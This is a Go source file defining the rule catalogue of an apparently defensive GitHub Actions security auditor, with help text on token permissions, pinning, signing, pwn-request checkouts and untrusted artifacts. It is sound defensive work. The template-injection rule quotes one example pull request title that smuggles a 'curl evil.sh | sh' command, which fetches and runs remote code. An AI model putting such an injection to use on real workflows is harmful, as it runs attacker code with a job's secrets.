/*
Copyright 2026.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package audit

import "strings"

// Rule describes one check. ID and Name are a public interface (they appear
// in output, in --disable and in SARIF) and never change meaning.
type Rule struct {
	// ID is the stable identifier, e.g. "SP001".
	ID string
	// Name is the stable kebab-case name, e.g. "checkout-persist-credentials".
	Name string
	// Summary is a one-line description.
	Summary string
	// Help says why the problem matters and how to fix it (used in SARIF).
	Help string
	// Severity is the severity of every finding of this rule.
	Severity Severity
}

var (
	ruleParseError = Rule{
		ID: "SP000", Name: "parse-error", Severity: SeverityError,
		Summary: "The file is not a workflow that can be audited.",
		Help: "The file is not valid YAML, is empty, does not have a mapping at the top level, or expands to an " +
			"unreasonable size through YAML aliases. GitHub cannot run it either, and none of the other rules " +
			"could check it. Fix the syntax at the reported position (actionlint gives detailed diagnostics).",
	}
	ruleCheckoutCredentials = Rule{
		ID: "SP001", Name: "checkout-persist-credentials", Severity: SeverityWarning,
		Summary: "actions/checkout leaves the GITHUB_TOKEN in .git/config.",
		Help: "By default actions/checkout writes the job's GITHUB_TOKEN into .git/config so that later git " +
			"commands are authenticated. Every later step, including third-party actions and build scripts of " +
			"dependencies, can then read it, and it ends up in any artifact that uploads the work tree. " +
			"Add `with: persist-credentials: false` to the checkout step, and pass a token explicitly to the " +
			"one step that needs to push.",
	}
	ruleUnpinnedAction = Rule{
		ID: "SP002", Name: "unpinned-action", Severity: SeverityWarning,
		Summary: "An action or reusable workflow is not pinned to a full commit SHA.",
		Help: "Tags and branches are mutable: whoever controls the action's repository (or steals its " +
			"credentials) can move `v4` to malicious code that then runs with your secrets, as happened with " +
			"tj-actions/changed-files. Only a full 40-character commit SHA is immutable. Pin " +
			"`uses: owner/repo@<sha> # v4.1.0` (keep the tag as a comment so that Dependabot or Renovate can " +
			"update it), and pin docker:// images by `@sha256:` digest. Local `./` actions are not affected.",
	}
	ruleMissingPermissions = Rule{
		ID: "SP003", Name: "missing-permissions", Severity: SeverityWarning,
		Summary: "A job runs with the repository's default GITHUB_TOKEN permissions.",
		Help: "Without a `permissions:` block the GITHUB_TOKEN gets the repository or organisation default, " +
			"which is read/write on most scopes for older repositories. A compromised step can then push code, " +
			"create releases or approve pull requests. Declare `permissions:` at the workflow level (for " +
			"example `contents: read`) and widen it per job only where needed.",
	}
	ruleExcessivePermissions = Rule{
		ID: "SP004", Name: "excessive-permissions", Severity: SeverityError,
		Summary: "write-all, or a write scope granted to every job of the workflow.",
		Help: "`permissions: write-all` gives the token every write scope; a write scope at the workflow level " +
			"gives it to every job, including those that only build or test. Set the workflow level to " +
			"read-only (`contents: read`) and grant each write scope only in the job that needs it.",
	}
	ruleImageNotSigned = Rule{
		ID: "SP005", Name: "image-not-signed", Severity: SeverityWarning,
		Summary: "A job publishes a container image without signing it with cosign.",
		Help: "Consumers and admission controllers (Sigstore policy-controller, Kyverno) can only verify " +
			"where an image came from if it is signed. Sign the pushed digest in the same job, e.g. " +
			"`cosign sign --yes registry/image@${{ steps.build.outputs.digest }}` (keyless, with " +
			"`id-token: write`), right after the push.",
	}
	ruleImageWithoutSBOM = Rule{
		ID: "SP006", Name: "image-without-sbom", Severity: SeverityWarning,
		Summary: "A job publishes a container image without producing an SBOM.",
		Help: "A software bill of materials lets consumers find out whether the image contains a vulnerable " +
			"component without pulling and scanning it. Generate one in the publishing job: " +
			"`docker/build-push-action` with `sbom: true`, `anchore/sbom-action`, `syft`, or attach it with " +
			"`cosign attest --type spdxjson|cyclonedx`.",
	}
	ruleKeylessWithoutIDToken = Rule{
		ID: "SP007", Name: "keyless-signing-without-id-token", Severity: SeverityError,
		Summary: "cosign keyless signing in a job whose token cannot mint an OIDC id-token.",
		Help: "Keyless cosign (no `--key`) obtains a short-lived certificate from Fulcio with the job's OIDC " +
			"token, which GitHub only issues when the job has `permissions: id-token: write`. Without it the " +
			"step fails, or falls back to an interactive flow. Add `id-token: write` to the job's " +
			"permissions (job level, so that other jobs cannot mint tokens).",
	}
	ruleDangerousCheckout = Rule{
		ID: "SP008", Name: "dangerous-checkout", Severity: SeverityError,
		Summary: "A pull_request_target or workflow_run workflow checks out untrusted pull request code.",
		Help: "pull_request_target and workflow_run run in the context of the base repository, with its " +
			"secrets and a write token, even for pull requests from forks. Checking out the pull request's " +
			"head and building or running it hands those to the attacker (\"pwn request\"). Use the " +
			"`pull_request` trigger for untrusted code, or split the work: build in an unprivileged " +
			"`pull_request` workflow and consume only its artifacts, treated as data, in the privileged one.",
	}
	ruleSecretsOutsideEnvironment = Rule{
		ID: "SP009", Name: "secrets-outside-environment", Severity: SeverityWarning,
		Summary: "A job uses repository secrets without declaring a deployment environment.",
		Help: "Repository and organisation secrets are available to any workflow on any branch. Environment " +
			"secrets are only released to jobs that declare the environment, after its protection rules " +
			"(required reviewers, allowed branches, wait timers) pass. Move the secret to an environment and " +
			"add `environment: <name>` to the job.",
	}
	ruleUntrustedArtifact = Rule{
		ID: "SP011", Name: "untrusted-artifact", Severity: SeverityError,
		Summary: "A privileged workflow unpacks or runs artifacts of the untrusted run that triggered it.",
		Help: "workflow_run and pull_request_target workflows run with the base repository's secrets and a write " +
			"token, while the artifacts of the triggering run (or of the pull request's runs) were produced by " +
			"the pull request's code. Unpacking them into the workspace can overwrite scripts and configuration " +
			"that later steps run, and running anything from them hands the job to the attacker. Download into " +
			"a dedicated directory (`path: ${{ runner.temp }}/artifacts`), treat the files as data (parse, never " +
			"execute or source them), and validate what you read.",
	}
	ruleNotFollowed = Rule{
		ID: "SP012", Name: "reference-not-followed", Severity: SeverityNote,
		Summary: "A reference inside the repository was refused or stopped by a limit.",
		Help: "The audit follows local actions, Makefiles, scripts and goreleaser configurations within the " +
			"repository, with bounds: files over 1 MiB, more than 512 files, more than 6 levels of make, scripts " +
			"and local actions, include cycles, and paths or symbolic links that leave the repository are not " +
			"followed. The message names the limit. Publishing done behind such a reference is not in the " +
			"inventory, so SP005/SP006 cannot see it: make the reference smaller or direct.",
	}
	ruleTemplateInjection = Rule{
		ID: "SP010", Name: "template-injection", Severity: SeverityError,
		Summary: "An attacker-controlled value is expanded by ${{ }} inside a script.",
		Help: "${{ }} is substituted into the script text before the shell (or github-script) runs it, so a " +
			"pull request title such as `a\"; curl evil.sh | sh; echo \"` becomes code running with the job's " +
			"token and secrets. Pass the value through an environment variable instead: " +
			"`env: TITLE: ${{ github.event.pull_request.title }}` and use `\"$TITLE\"` in the script " +
			"(`process.env.TITLE` in github-script).",
	}
)

var allRules = []Rule{
	ruleParseError,
	ruleCheckoutCredentials,
	ruleUnpinnedAction,
	ruleMissingPermissions,
	ruleExcessivePermissions,
	ruleImageNotSigned,
	ruleImageWithoutSBOM,
	ruleKeylessWithoutIDToken,
	ruleDangerousCheckout,
	ruleSecretsOutsideEnvironment,
	ruleTemplateInjection,
	ruleUntrustedArtifact,
	ruleNotFollowed,
}

// Rules returns the rule catalogue ordered by id, SP000 (parse-error)
// included. The slice is a copy and may be modified by the caller.
func Rules() []Rule {
	return append([]Rule(nil), allRules...)
}

// LookupRule finds a rule by id ("SP002") or name ("unpinned-action"),
// case-insensitively.
func LookupRule(idOrName string) (Rule, bool) {
	idOrName = strings.TrimSpace(idOrName)
	for _, r := range allRules {
		if strings.EqualFold(r.ID, idOrName) || strings.EqualFold(r.Name, idOrName) {
			return r, true
		}
	}
	return Rule{}, false
}
